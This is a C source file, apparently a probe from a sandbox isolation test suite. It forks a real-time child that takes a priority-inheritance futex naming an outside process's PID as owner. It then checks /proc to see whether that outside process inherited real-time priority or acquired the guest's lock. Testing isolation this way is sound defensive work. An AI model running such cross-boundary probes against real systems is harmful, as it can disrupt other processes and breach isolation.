// SPDX-License-Identifier: GPL-2.0-only
// A futex with priority inheritance whose word names a process of outside as
// its owner: it inherits the priority of who waits, and the kernel hangs its
// state on that process.  The caller writes the number itself.
// Victims: host other
#include <linux/futex.h>
#include <sched.h>
#include <time.h>

#include "attack.h"

static uint32_t word;

int main(void)
{
	struct sched_param most = { .sched_priority = 50 };
	char name[64], *stat;
	struct timespec end;
	int i, priority = 0;
	pid_t pid;

	word = fact_number("PID");
	clock_gettime(CLOCK_REALTIME, &end);
	end.tv_sec += 2;
	pid = fork();
	NEED(pid >= 0);
	if (!pid) {
		sched_setscheduler(0, SCHED_FIFO, &most);
		syscall(SYS_futex, &word, FUTEX_LOCK_PI | FUTEX_PRIVATE_FLAG, 0,
			&end, NULL, 0);
		_exit(errno);
	}
	usleep(500000);
	snprintf(name, sizeof(name), "/proc/%s/stat", fact("PID"));
	stat = get(name);
	if (stat) {
		char *field = strrchr(stat, ')') + 2;

		for (i = 3; i < 18; i++)
			field = strchr(field, ' ') + 1;
		priority = atoi(field);
	}
	waitpid(pid, &i, 0);
	errno = WEXITSTATUS(i);
	if (priority < 0)
		worked("the victim has inherited a real-time priority");
	if (errno == ETIMEDOUT)
		worked("the victim owns a lock of the guest");
	refused("FUTEX_LOCK_PI");
}
